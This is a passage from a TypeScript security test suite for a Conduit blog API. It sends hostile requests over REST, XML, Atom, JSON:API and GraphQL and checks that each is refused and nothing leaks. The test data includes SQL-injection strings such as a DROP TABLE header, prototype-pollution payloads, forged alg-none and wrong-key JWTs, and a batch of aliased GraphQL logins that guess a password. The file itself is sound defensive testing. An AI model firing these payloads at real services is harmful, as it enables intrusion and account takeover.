      body: () => `<article><title>${unique("Ref ")}</title><description>d</description><body>a${reference}b</body></article>`,
      status: 400,
      error: { field: "body", message: notXml("Character reference resolves to an invalid character") },
    }),
  ),
  ...(
    [
      ["a raw U+0001 in the text", bytes("<comment><body>a", [0x01], "b</body></comment>")],
      ["a raw NUL byte in the text", bytes("<comment><body>a", [0x00], "b</body></comment>")],
      ["a raw escape (U+001B) in an attribute", bytes('<comment note="', [0x1b], '"><body>x</body></comment>')],
    ] as const
  ).map(([what, body]) =>
    xml({
      name: `${what} (XML allows no C0 control but tab, LF and CR)`,
      method: "POST",
      path: "/api/articles/@@slug@@/comments",
      token: "owner",
      body,
      status: 400,
      error: { field: "body", message: notXml("Invalid character") },
    }),
  ),
  xml({
    name: "character references XML allows (an emoji, CR, tab, the five entities)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<article><title>References kept</title><description>&#x1F600;</description><body>a&#13;b&#9;c &lt;&gt;&amp;&quot;&apos;</body></article>",
    status: 201,
    stored: storesArticle({ title: "References kept", description: "\u{1F600}", body: "a\rb\tc <>&\"'" }),
  }),
  xml({
    name: "__proto__, constructor and toString elements beside a valid article",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<article><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor><toString>x</toString><title>Prototype elements</title><description>d</description><body>b</body></article>",
    status: 201,
    stored: storesArticle({ title: "Prototype elements", description: "d", body: "b" }),
  }),
  xml({
    name: "a user envelope only under a __proto__ root",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: "<__proto__><user><bio>from the prototype</bio></user></__proto__>",
    status: 422,
    error: { field: "user", message: "is required" },
  }),
  xml({
    name: "a constructor root",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<constructor><prototype><polluted>yes</polluted></prototype></constructor>",
    status: 422,
    error: { field: "article", message: "is required" },
  }),
  xml({
    name: "an unclosed element",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<article><title>x</title><description>d<body>b</body></article>",
    status: 400,
    error: { field: "body", message: notXml("Missing end tag for element description") },
  }),
  xml({
    name: "two root elements",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<article><title>x</title></article><article><title>y</title></article>",
    status: 400,
    error: { field: "body", message: notXml("Extra content at the end of the document") },
  }),
  xml({
    name: "text that is not XML at all",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: '{"user":{"bio":"json sent as xml"}}',
    status: 400,
    error: { field: "body", message: notXml("Root element is missing or invalid") },
  }),
  xml({
    name: "the wrong root element (a user where an article belongs)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: "<user><title>x</title><description>d</description><body>b</body></user>",
    status: 422,
    error: { field: "article", message: "is required" },
  }),
  xml({
    name: "the wrong root element (an article where a user belongs)",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: "<article><bio>x</bio></article>",
    status: 422,
    error: { field: "user", message: "is required" },
  }),
  xml({
    name: "a body over 1 MiB",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: () => `<article><title>huge</title><description>d</description><body>${"x".repeat(MiB + 10)}</body></article>`,
    status: 413,
    error: { field: "body", message: TOO_LARGE },
  }),
  xml({
    name: "a streamed body over 1 MiB",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: streamOf("<comment><body>", 2 * MiB, "</body></comment>"),
    status: 413,
    error: { field: "body", message: TOO_LARGE },
  }),
  xml({
    name: "100,000 nested elements",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: () => `<article>${"<a>".repeat(DEEP)}${"</a>".repeat(DEEP)}</article>`,
    status: 400,
    error: { field: "body", message: XML_TOO_DEEP },
  }),
  xml({
    name: "elements nested 101 levels deep, one past the bound",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: () =>
      `<article><title>${unique("Deep ")}</title><description>d</description><body>b</body>${"<a>".repeat(100)}${"</a>".repeat(100)}</article>`,
    status: 400,
    error: { field: "body", message: XML_TOO_DEEP },
  }),
  xml({
    name: "bytes that are not UTF-8",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: bytes("<comment><body>caf", [0xe9, 0xff], "</body></comment>"),
    status: 400,
    error: { field: "body", message: NOT_UTF8 },
  }),
  xml({
    name: "a refused write by another user, answered in XML",
    method: "DELETE",
    path: "/api/articles/@@slug@@",
    token: "other",
    status: 403,
    error: { field: "body", message: "only the author can delete this article" },
  }),

  // --- Atom feeds (REST routes answering application/atom+xml) ------------------
  ...(
    [
      ["SQL as the tag", "tag=%27%29%20OR%201%3D1--"],
      ["a LIKE wildcard as the tag", "tag=%25"],
      ["an encoded lone surrogate as the tag (undecodable, kept as text)", "tag=%ED%A0%80"],
    ] as const
  ).map(([name, query]) =>
    atomRow({
      name,
      method: "GET",
      path: `/api/articles.atom?${query}`,
      token: "none",
      status: 200,
      reply: (reply) => expect(feedTitles(reply)).toEqual([]),
    }),
  ),
  ...(
    [
      [`tag=${"t".repeat(LIMITS.filter + 1)}`, "tag", "is too long"],
      ["tag=a%00b", "tag", UNSTORABLE],
    ] as const
  ).map(([query, field, message]) =>
    atomRow({
      name: query.length > 40 ? `a ${query.length}-character ${field}` : "that query",
      method: "GET",
      path: `/api/articles.atom?${query}`,
      token: "none",
      status: 422,
      error: { field, message },
    }),
  ),
  atomRow({
    name: "a repeated tag (the first one counts)",
    method: "GET",
    path: "/api/profiles/@@owner@@/articles.atom?tag=fixture&tag=nothing-has-this",
    token: "none",
    status: 200,
    reply: (reply) => expect(readFeed(reply).entries.map((entry) => entry.categories)).toEqual([["fixture"]]),
  }),
  atomRow({
    name: "paging, array-style and prototype keys in the query (ignored: a feed is the newest 20)",
    method: "GET",
    path: "/api/articles.atom?limit=1000&offset=-1&tag[]=x&__proto__[tag]=y&constructor[prototype][x]=1",
    token: "none",
    status: 200,
    reply: (reply) => {
      const titles = feedTitles(reply);
      expect(titles.length).toBeGreaterThanOrEqual(2);
      expect(titles.length).toBeLessThanOrEqual(20);
    },
  }),
  atomRow({
    name: "SQL as the author",
    method: "GET",
    path: "/api/profiles/@@other@@'%20OR%20'1'='1/articles.atom",
    token: "none",
    status: 404,
    error: { field: "body", message: "profile not found" },
  }),
  atomRow({
    name: "constructor as the author (no such user; __proto__ is one, registered above)",
    method: "GET",
    path: "/api/profiles/constructor/articles.atom",
    token: "none",
    status: 404,
    error: { field: "body", message: "profile not found" },
  }),
  atomRow({
    name: "the author's name in fullwidth letters (the same user after NFKC)",
    method: "GET",
    path: "/api/profiles/@@ownerFullwidth@@/articles.atom",
    token: "none",
    status: 200,
    reply: (reply, f) => expect(readFeed(reply).raw.title).toBe(`Articles by ${f.owner.username} on Conduit`),
  }),
  // Tokens are read before any route negotiates (http/request-context.ts): this 401 is JSON, as on every REST route.
  rest({
    name: "a token signed with another key, from a feed reader",
    method: "GET",
    path: "/api/articles.atom",
    headers: { Accept: "application/atom+xml" },
    token: "wrong-key",
    status: 401,
    error: { field: "body", message: BAD_TOKEN },
  }),
  atomRow({
    name: "If-Modified-Since and If-None-Match that are not validators",
    method: "GET",
    path: "/api/articles.atom",
    headers: { "If-Modified-Since": "'; DROP TABLE articles; --", "If-None-Match": 'W/"x", garbage, "' },
    token: "none",
    status: 200,
  }),
  rest({
    name: "an Accept that takes JSON only",
    method: "GET",
    path: "/api/articles.atom",
    headers: { Accept: "application/json" },
    token: "none",
    status: 406,
    error: { field: "body", message: "this resource is answered in application/atom+xml only" },
  }),

  // --- JSON:API -----------------------------------------------------------------
  jsonapiRow({
    name: "a charset parameter on the Content-Type",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    headers: { "Content-Type": `${MEDIA_TYPE}; charset=utf-8` },
    body: () => jsonapiArticle(),
    status: 415,
    error: { field: "unsupported_media_type", message: /no parameter but profile/ },
  }),
  jsonapiRow({
    name: "an ext parameter on the Content-Type (no extension is supported)",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    headers: { "Content-Type": `${MEDIA_TYPE}; ext="https://jsonapi.org/ext/atomic"` },
    body: () => jsonapiArticle(),
    status: 415,
    error: { field: "unsupported_media_type" },
  }),
  jsonapiRow({
    name: "plain application/json as the Content-Type",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    headers: { "Content-Type": "application/json" },
    body: () => jsonapiArticle(),
    status: 415,
    error: { field: "unsupported_media_type" },
  }),
  jsonapiRow({
    name: "an Accept whose only JSON:API type has a parameter",
    method: "GET",
    path: "/jsonapi/articles",
    token: "none",
    headers: { Accept: `${MEDIA_TYPE}; charset=utf-8` },
    status: 406,
    error: { field: "not_acceptable" },
  }),
  jsonapiRow({
    name: "a truncated document",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    body: '{"data":{"type":"articles","attributes":{',
    status: 400,
    error: { field: "bad_request", message: NOT_JSON },
  }),
  jsonapiRow({
    name: "a document without data",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    body: json({ meta: { title: "x" } }),
    status: 400,
    error: { field: "bad_request" },
  }),
  jsonapiRow({
    name: "an array of resources where one belongs",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    body: () => `{"data":[${JSON.stringify(JSON.parse(jsonapiArticle()).data)}]}`,
    status: 400,
    error: { field: "bad_request" },
  }),
  jsonapiRow({
    name: "a type that does not match the endpoint",
    method: "PATCH",
    path: "/jsonapi/articles/@@articleAId@@",
    token: "owner",
    body: json({ data: { type: "users", id: "@@articleAId@@", attributes: { body: "x" } } }),
    status: 409,
    error: { field: "conflict", message: /type must be "articles"/ },
  }),
  jsonapiRow({
    name: "an id that does not match the URL",
    method: "PATCH",
    path: "/jsonapi/articles/@@articleAId@@",
    token: "owner",
    body: json({ data: { type: "articles", id: "@@articleBId@@", attributes: { body: "x" } } }),
    status: 409,
    error: { field: "conflict" },
  }),
  jsonapiRow({
    name: "an update without an id",
    method: "PATCH",
    path: "/jsonapi/articles/@@articleAId@@",
    token: "owner",
    body: json({ data: { type: "articles", attributes: { body: "x" } } }),
    status: 400,
    error: { field: "bad_request" },
  }),
  jsonapiRow({
    name: "a client-generated id on a new article",
    method: "POST",
    path: "/jsonapi/articles",
    token: "owner",
    body: () => json({ data: { ...JSON.parse(jsonapiArticle()).data, id: "1" } }),
    status: 403,
    error: { field: "forbidden" },
  }),
  jsonapiRow({
    name: "a client-generated id on registration",
    method: "POST",
    path: "/jsonapi/users",
    token: "none",
    body: () => {
      const username = unique("ja");
      return json({
        data: { type: "users", id: "1", attributes: { username, email: `${username}@example.com`, password: "safe-pass-1" } },
      });
    },
    status: 403,
    error: { field: "forbidden" },
  }),
  // Query parameters a JSON:API read refuses.
  ...JSONAPI_BAD_QUERIES.map(([name, path, message, parameter]) =>
    jsonapiRow({
      name,
      method: "GET",
      path,
      token: "none",
      status: 400,
      error: { field: "bad_request", ...(message === undefined ? {} : { message }) },
      ...(parameter === undefined ? {} : { reply: (reply: Reply) => expect(reply.body.errors[0].source).toEqual({ parameter }) }),
    }),
  ),
  jsonapiRow({
    name: "two members in one relationship change",
    method: "POST",
    path: "/jsonapi/users/me/relationships/favorites",
    token: "owner",
    body: json({
      data: [
        { type: "articles", id: "@@articleAId@@" },
        { type: "articles", id: "@@articleBId@@" },
      ],
    }),
    status: 403,
    error: { field: "forbidden", message: "add or remove one member per request" },
  }),
  jsonapiRow({
    name: "a broken document on an anonymous write (authentication comes first)",
    method: "PATCH",
    path: "/jsonapi/articles/@@articleAId@@",
    token: "none",
    body: '{"data":',
    status: 401,
    error: { field: "unauthenticated" },
  }),
  jsonapiRow({
    name: "ids, counts, timestamps and the author in an article's attributes",
    method: "PATCH",
    path: "/jsonapi/articles/@@articleBId@@",
    token: "owner",
    body: (f) =>
      json({
        data: {
          type: "articles",
          id: f.vars.articleBId,
          attributes: {
            body: "jsonapi mass assigned body",
            slug: "hijacked-slug",
            id: 1,
            authorId: f.other.id,
            favoritesCount: 1000,
            favorited: true,
            createdAt: "2000-01-01T00:00:00.000Z",
            updatedAt: "2000-01-01T00:00:00.000Z",
          },
          meta: { favorited: true },
        },
      }),
    status: 200,
    stored: {
      proves: "only the body changes",
      check: async (reply, f) => {
        const row = await articleRow(f.slugB);
        expect(row).toMatchObject({
          id: Number(f.vars.articleBId),
          body: "jsonapi mass assigned body",
          author_id: f.owner.id,
          created_at: Number(f.vars.articleBCreatedAt),
        });
        // The count is the real one (other rows may favorite B), never the 1000 sent.
        const n = (await rows<{ n: number }>("SELECT COUNT(*) AS n FROM favorites WHERE article_id = ?", row.id))[0]?.n;
        expect(row.favorites_count).toBe(n);
        expect(reply.body.data.attributes).toMatchObject({ slug: f.slugB, favoritesCount: n });
        expect(reply.body.data.relationships.author.data).toEqual({ type: "users", id: String(f.owner.id) });
      },
    },
  }),

  // --- GraphQL ------------------------------------------------------------------
  graphqlRow({
    name: "fields nested past the depth limit",
    token: "none",
    body: gqlBody(
      "{ articles { edges { node { author { articles { edges { node { author { articles { edges { node { title } } } } } } } } } } } }",
    ),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /depth 12 exceeds the limit of 10/ },
  }),
  graphqlRow({
    name: "a cursor that is not one the server gave",
    token: "none",
    body: gqlBody('{ articles(after: "c1.YXJ0aWNsZXM6bmV3ZXN0OjE.AAAAAAAAAAAAAAAA") { totalCount } }'),
    status: 200,
    error: { field: "BAD_USER_INPUT" },
    reply: (reply) => expect(reply.body.errors[0].extensions.fields).toEqual({ after: [BAD_CURSOR] }),
  }),
  graphqlRow({
    name: "pages of comments in a page of articles (100 × 1,000,000 asked, priced as 100 × 100)",
    token: "none",
    body: gqlBody("{ articles(first: 100) { edges { node { comments(first: 1000000) { edges { node { body } } } } } } }"),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /Query cost 10302 exceeds the limit of 1500/ },
  }),
  graphqlRow({
    name: "more aliases than allowed",
    token: "none",
    body: gqlBody(`{ ${Array.from({ length: 40 }, (_, i) => `t${i}: tags`).join(" ")} }`),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /Alias count 40 exceeds the limit of 15/ },
  }),
  graphqlRow({
    name: "more tokens than allowed",
    token: "none",
    body: gqlBody(`{ ${"__typename ".repeat(5000)} }`),
    status: 400,
    error: { field: "GRAPHQL_PARSE_FAILED" },
  }),
  graphqlRow({
    name: "a syntax error",
    token: "owner",
    body: gqlBody("mutation { deleteArticle(slug: "),
    status: 400,
    error: { field: "GRAPHQL_PARSE_FAILED" },
  }),
  graphqlRow({
    name: "a mutation sent with GET",
    method: "GET",
    path: `/graphql?query=${encodeURIComponent('mutation { deleteArticle(slug: "')}@@slug@@${encodeURIComponent('") }')}`,
    token: "owner",
    status: 405,
    error: { field: "METHOD_NOT_ALLOWED" },
    reply: (reply) => expect(reply.headers.get("allow")).toBe("POST"),
  }),
  graphqlRow({
    name: "a variable of the wrong type",
    token: "owner",
    body: gqlBody("mutation($input: UpdateUserInput!) { updateUser(input: $input) { bio } }", { input: { bio: ["x"] } }),
    status: 400,
    error: { field: "BAD_USER_INPUT" },
  }),
  graphqlRow({
    name: "variables that are not an object",
    token: "none",
    body: json({ query: "{ tags }", variables: "[1,2]" }),
    status: 400,
    error: { field: "BAD_REQUEST" },
  }),
  graphqlRow({
    name: "an unknown operation name",
    token: "none",
    body: gqlBody("query A { tags } query B { tags }", undefined, "C"),
    status: 400,
    error: { field: "BAD_USER_INPUT" },
  }),
  graphqlRow({
    name: "read-only fields (counts, author) in a new article's input",
    token: "owner",
    body: gqlBody(
      'mutation { createArticle(input: { title: "mass", description: "d", body: "b", favoritesCount: 1000, author: "x" }) { slug } }',
    ),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED" },
  }),
  graphqlRow({
    name: "a full introspection query within the limits",
    token: "none",
    body: gqlBody("{ __schema { queryType { name } types { name kind fields { name type { name kind ofType { name } } } } } }"),
    status: 200,
    reply: (reply) => {
      expect(reply.body.errors).toBeUndefined();
      expect(reply.body.data.__schema.types.map((t: { name: string }) => t.name)).toContain("Article");
    },
  }),
  graphqlRow({
    name: "introspection nested past graphql-js's introspection depth",
    token: "none",
    body: gqlBody("{ __schema { types { fields { type { fields { type { fields { type { fields { name } } } } } } } } } }"),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED" },
  }),
  graphqlRow({
    name: "introspection repeated under many aliases",
    token: "none",
    body: gqlBody(`{ ${Array.from({ length: 20 }, (_, i) => `s${i}: __schema { types { name } }`).join(" ")} }`),
    status: 400,
    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /Alias count/ },
  }),
  graphqlRow({
    name: "a batch of aliased logins guessing the owner's password",
    token: "none",
    body: (f) =>
      gqlBody(
        `mutation { ${Array.from(
          { length: 10 },
          (_, i) => `l${i}: login(input: { email: "${f.owner.email}", password: "guess-${i}-password" }) { token }`,
        ).join(" ")} }`,
      ),
    status: 200,
    error: { field: "UNAUTHENTICATED", message: "email or password is invalid" },
    reply: (reply) => {
      expect(reply.body.errors).toHaveLength(10);
      expect(Object.values(reply.body.data)).toEqual(Array(10).fill(null));
      expect(reply.text).not.toMatch(/"token":"/);
    },
  }),
  graphqlRow({
    name: "an anonymous mutation",
    token: "none",
    body: gqlBody('mutation { createArticle(input: { title: "anon", description: "d", body: "b" }) { slug } }'),
    status: 200,
    error: { field: "UNAUTHENTICATED", message: NO_AUTH },
  }),
  graphqlRow({
    name: "an expired token",
    token: "expired",
    body: gqlBody("{ tags }"),
    status: 401,
    error: { field: "UNAUTHENTICATED" },
  }),
  graphqlRow({
    name: "a body that is not JSON",
    token: "owner",
    headers: { "Content-Type": "text/plain" },
    body: 'mutation { deleteArticle(slug: "@@slug@@") }',
    status: 415,
    error: { field: "UNSUPPORTED_MEDIA_TYPE" },
  }),
  graphqlRow({
    name: "a truncated JSON body",
    token: "owner",
    body: '{"query":"mutation { deleteArticle(slug: \\"@@slug@@\\") }"',
    status: 400,
    error: { field: "BAD_REQUEST" },
  }),

  // --- search, in every style -----------------------------------------------------
  ...HOSTILE_SEARCHES.flatMap(({ name, query, empty, everyStyle }) => {
    const search = encodeURIComponent(query);
    const cases = [
      rest({
        name: `${name} as the search`,
        method: "GET",
        path: `/api/articles?search=${search}`,
        token: "none",
        status: 200,
        reply: (reply) => searchResult(reply.body.articles, reply.body.articlesCount, empty),
      }),
    ];
    if (!everyStyle) return cases;
    return [
      ...cases,
      xml({
        name: `${name} as the search`,
        method: "GET",
        path: `/api/articles?search=${search}`,
        token: "none",
        status: 200,
        reply: (reply) => {
          const page = xmlBody(reply.text);
          searchResult(page.articles, page.articlesCount, empty);
        },
      }),
      jsonapiRow({
        name: `${name} as filter[search]`,
        method: "GET",
        path: `/jsonapi/articles?filter[search]=${search}`,
        token: "none",
        status: 200,
        reply: (reply) => searchResult(reply.body.data, reply.body.meta.total, empty),
      }),
      graphqlRow({
        name: `${name} as the search argument`,
        token: "none",
        body: gqlBody(SEARCH_QUERY, { search: query }),
        status: 200,
        reply: (reply) => {
          expect(reply.body.errors).toBeUndefined();
          searchResult(reply.body.data.articles.edges, reply.body.data.articles.totalCount, empty);
        },
      }),
    ];
  }),
  rest({
    name: "a NUL in the search",
    method: "GET",
    path: "/api/articles?search=dragon%00",
    token: "none",
    status: 422,
    error: { field: "search", message: UNSTORABLE },
  }),
  rest({
    name: "a search longer than a filter may be",
    method: "GET",
    path: `/api/articles?search=${"(".repeat(LIMITS.filter + 1)}`,
    token: "none",
    status: 422,
    error: { field: "search", message: "is too long" },
  }),
  rest({
    name: "a search of more words than allowed",
    method: "GET",
    path: `/api/articles?search=${encodeURIComponent(TOO_MANY_WORDS)}`,
    token: "none",
    status: 422,
    error: { field: "search", message: SEARCH_TOO_MANY },
  }),
  xml({
    name: "a search of more words than allowed",
    method: "GET",
    path: `/api/articles?search=${encodeURIComponent(TOO_MANY_WORDS)}`,
    token: "none",
    status: 422,
    error: { field: "search", message: SEARCH_TOO_MANY },
  }),
  jsonapiRow({
    name: "a filter[search] with a NUL",
    method: "GET",
    path: "/jsonapi/articles?filter[search]=a%00b",
    token: "none",
    status: 400,
    error: { field: "bad_request", message: `filter[search] ${UNSTORABLE}` },
  }),
  jsonapiRow({
    name: "sort=-relevance without a search",
    method: "GET",
    path: "/jsonapi/articles?sort=-relevance",
    token: "none",
    status: 400,
    error: { field: "bad_request", message: /needs filter\[search\]/ },
  }),
  graphqlRow({
    name: "a search of more words than allowed",
    token: "none",
    body: gqlBody(SEARCH_QUERY, { search: TOO_MANY_WORDS }),
    status: 200,
    error: { field: "BAD_USER_INPUT", message: /search/ },
  }),
  ...POLICY_CASES.flatMap(policyRows),
  rest({
    name: "the right currentPassword with a bio change",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: (f) => json({ user: { bio: "checked bio", currentPassword: f.owner.password } }),
    status: 200,
    stored: storesOwner({ bio: "checked bio" }),
  }),
];

// --- running a case ---------------------------------------------------------

const INTERNALS: [string, RegExp][] = [
  ["a SQLite error", /SQLITE/i],
  ["a D1 error", /D1_/],
  ["the ORM", /drizzle/i],
  ["a stack frame", /^\s{2,}at |\n\s*at [\w.<>]+ \(/m],
  ["an error class", /\b\w*Error\b:/],
  ["a SELECT", /\bSELECT\s+[\w"`*(].*?\bFROM\b/is],
  ["an INSERT", /\bINSERT\s+(?:OR\s+\w+\s+)?INTO\b/i],
  ["an UPDATE", /\bUPDATE\s+["`]?\w+["`]?\s+SET\b/i],
  ["a DELETE", /\bDELETE\s+FROM\b/i],
  ["a file path", /\/src\/|\.ts:\d+/],
];

/** Every string in a JSON body, raw and as JSON text: what a reply may echo as data. */
function sentStrings(body: BodyInit | undefined): string[] {
  if (typeof body !== "string") return [];
  const found: string[] = [];
  try {
    JSON.parse(body, (_key, value: unknown) => {
      if (typeof value === "string" && value.length > 3) found.push(value, JSON.stringify(value).slice(1, -1));
      return value;
    });
  } catch {
    // Not JSON: nothing of it is echoed as data.
  }
  return found.sort((a, b) => b.length - a.length);
}

/** SQL this file stores as data: lists may show it in any later answer. */
const STORED_SQL = Object.values(SQL).flatMap((value) => [value, JSON.stringify(value).slice(1, -1)]);

/**
 * Wording a style's answers carry on purpose, which the internals patterns
 * would mistake for a leak: graphql-js's parse errors begin "Syntax Error:",
 * the form GraphQL clients expect (it names no class, file or query of ours).
 */
const PUBLIC_WORDING: Record<Style, string[]> = { rest: [], xml: [], jsonapi: [], graphql: ["Syntax Error:"] };

function expectNoInternals(text: string, echoes: string[], label: string) {
  let rest = text;
  for (const echo of [...echoes, ...STORED_SQL]) rest = rest.replaceAll(echo, "");
  for (const [what, pattern] of INTERNALS) expect(rest, `${label}: shows ${what}`).not.toMatch(pattern);
}

function fill(text: string, f: Fixtures): string {
  return text.replace(/@@(\w+)@@/g, (_, name: string) => {
    const value = f.vars[name];
    if (value === undefined) throw new Error(`no fixture value for @@${name}@@`);
    return value;
  });
}

async function send(c: HostileCase, f: Fixtures): Promise<{ reply: Reply; sent: BodyInit | undefined }> {
  const headers: Record<string, string> = {};
  const authorization = f.auth[c.token];
  if (authorization) headers.Authorization = authorization;
  let body: BodyInit | undefined;
  if (typeof c.body === "function") body = c.body(f);
  else if (typeof c.body === "string") body = fill(c.body, f);
  else body = c.body;
  if (body !== undefined) headers["Content-Type"] = "application/json";
  for (const [name, value] of Object.entries(c.headers ?? {})) {
    const key = Object.keys(headers).find((k) => k.toLowerCase() === name.toLowerCase()) ?? name;
    if (value === null) delete headers[key];
    else headers[key] = fill(value, f);
  }
  const reply = await call(c.method, fill(c.path, f), { headers, ...(body === undefined ? {} : { rawBody: body }) });
  return { reply, sent: body };
}

function titleOf(c: HostileCase): string {
  const shown = c.path.replace(/@@(\w+)@@/g, ":$1");
  const path = shown.length > 60 ? `${shown.slice(0, 57)}...` : shown;
  const outcome =
    c.status >= 400
      ? `is refused with ${c.status} on '${c.error?.field}', storage unchanged`
      : c.stored
        ? `is accepted with ${c.status}: ${c.stored.proves}`
        : `is answered ${c.status} as data, storage unchanged`;
  return `${c.method} ${path} with ${c.name} ${outcome}`;
}

// --- fixtures ---------------------------------------------------------------

const SECRET = new TextEncoder().encode(env.JWT_SECRET);
const ISSUER = "conduit-edge";
const AUDIENCE = "conduit-edge-api";
const base64url = (value: unknown) => btoa(JSON.stringify(value)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");

/**
 * A token signed by the test. `kid` is the key id the app put in a token it
 * issued (when it uses one), so that the only thing wrong with a token is
 * what the case changes.
 */
async function signed(claims: Record<string, unknown>, kid: string | undefined, secret = SECRET, alg = "HS256"): Promise<string> {
  const now = Math.floor(Date.now() / 1000);
  const payload = { iss: ISSUER, aud: AUDIENCE, iat: now, exp: now + 3600, ver: 0, ...claims };
  const header = { alg, typ: "JWT", ...(kid === undefined ? {} : { kid }) };
  return `Token ${await new SignJWT(payload).setProtectedHeader(header).sign(secret)}`;
}

async function withId(user: TestUser) {
  return { ...user, id: (await one<{ id: number }>("SELECT id FROM users WHERE username = ?", user.username)).id };
}

async function fixtures(): Promise<Fixtures> {
  const owner = await withId(await registerUser({ username: unique("Owner") }));
  const other = await withId(await registerUser({ username: unique("Other") }));
  const a = await createArticle(owner, { title: unique("Hostile target "), tagList: ["fixture"] });
  const b = await createArticle(owner, { title: unique("Hostile update target ") });
  const posted = await call("POST", `/api/articles/${a.slug}/comments`, {
    token: owner.token,
    body: { comment: { body: "the fixture comment" } },
  });
  const commentId = posted.body.comment.id as number;
  const sub = String(owner.id);
  const now = Math.floor(Date.now() / 1000);
  const [, payload] = owner.token.split(".");
  const { kid } = decodeProtectedHeader(owner.token);
  const rowB = await articleRow(b.slug);
  const rowA = await articleRow(a.slug);
  return {
    owner,
    other,
    slug: a.slug,
    slugB: b.slug,
    commentId,
    auth: {
      none: null,
      owner: `Token ${owner.token}`,
      other: `Token ${other.token}`,
      expired: await signed({ sub, iat: now - 7200, exp: now - 3600 }, kid),
      "alg-none": `Token ${base64url({ alg: "none", typ: "JWT", ...(kid === undefined ? {} : { kid }) })}.${payload}.c2ln`,
      "wrong-key": await signed({ sub }, kid, new TextEncoder().encode("another-secret-that-is-at-least-32-characters")),
      "unknown-kid": await signed({ sub }, "0123456789abcdef"),
      "wrong-issuer": await signed({ sub, iss: "evil-issuer" }, kid),
      "wrong-audience": await signed({ sub, aud: "another-api" }, kid),
      hs512: await signed({ sub }, kid, SECRET, "HS512"),
      "no-sub": await signed({}, kid),
      "sql-sub": await signed({ sub: "1 OR 1=1" }, kid),
      "string-version": await signed({ sub, ver: "0" }, kid),
      "future-version": await signed({ sub, ver: 7 }, kid),
      "unknown-user": await signed({ sub: "987654321" }, kid),
    },
    vars: {
      slug: a.slug,
      slugB: b.slug,
      slugUpper: a.slug.toUpperCase(),
      slugDoubleEncoded: encodeURIComponent(encodeURIComponent(a.slug).replaceAll("-", "%2D")),
      commentId: String(commentId),
      owner: owner.username,
      other: other.username,
      ownerUpper: owner.username.toUpperCase(),
      ownerFullwidth: encodeURIComponent(fullwidth(owner.username)),
      ownerToken: owner.token,
      ownerPasswordHash: (await userRow(owner.id)).password_hash,
      articleAId: String(rowA.id),
      articleBId: String(rowB.id),
      articleBCreatedAt: String(rowB.created_at),
    },
  };
}

// --- the tests --------------------------------------------------------------

// Large bodies (1 MiB, 100,000-element arrays) while other files run alongside: more than the default 5 s is allowed.
describe("hostile requests, in every API style", { timeout: 30_000 }, () => {
  let f: Fixtures;
  beforeAll(async () => {
    f = await fixtures();
  });

  it("has at least 50 cases, each either refused with an error field or accepted with a defined outcome", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
    for (const style of ["xml", "jsonapi", "graphql"] as const) {
      expect(CASES.filter((c) => c.style === style).length, style).toBeGreaterThanOrEqual(10);
    }
    for (const c of CASES) {
      if (c.status >= 400) expect(c.error, c.name).toBeDefined();
      // Only GraphQL refuses inside a 200 (the operation ran and answered with errors).
      else if (c.style !== "graphql") expect(c.error, c.name).toBeUndefined();
    }
  });

  it("uses a storage snapshot that sees a D1 write and an invalidation stamp, but not a cache fill by an anonymous read", async () => {
    await call("GET", "/api/tags");
    const before = await snapshot();
    expect(Object.keys(before.tables)).toEqual(
      expect.arrayContaining(["article_tags", "articles", "comments", "favorites", "follows", "users"]),
    );
    await call("GET", `/api/articles/${f.slug}`);
    await call("GET", "/api/articles?limit=3");
    expect((await snapshot()).digest, "an anonymous read counted as a change").toBe(before.digest);

    const follow = await call("POST", `/api/profiles/${f.owner.username}/follow`, { token: f.other.token });
    expect(follow.status).toBe(200);
    const followed = await snapshot();
    expect(followed.tables.follows).not.toEqual(before.tables.follows);
    expect(followed.kv, "a follow stores no stamp").toEqual(before.kv);
    await call("DELETE", `/api/profiles/${f.owner.username}/follow`, { token: f.other.token });
    expect((await snapshot()).digest).toBe(before.digest);

    await call("POST", `/api/articles/${f.slug}/favorite`, { token: f.other.token });
    await call("DELETE", `/api/articles/${f.slug}/favorite`, { token: f.other.token });
    const after = await snapshot();
    expect(after.tables, "favorite then unfavorite leaves the rows as they were").toEqual(before.tables);
    expect(Object.keys(after.kv), "but the article's stamp was stored").toContain(`stamp:a:${f.vars.articleAId}`);
    expect(after.digest).not.toBe(before.digest);
  });

  for (const c of CASES) {
    it(titleOf(c), async () => {
      const before = await snapshot();
      const { reply, sent } = await send(c, f);
      const label = `${c.method} ${c.path} (${c.name})`;

      expect(reply.status, `${label}: ${reply.text.slice(0, 300)}`).toBe(c.status);
      expect(reply.status, `${label}: throttled`).not.toBe(429);
      expectNoInternals(reply.text, [...sentStrings(sent), ...PUBLIC_WORDING[c.style]], label);

      if (c.status >= 400 || c.error) {
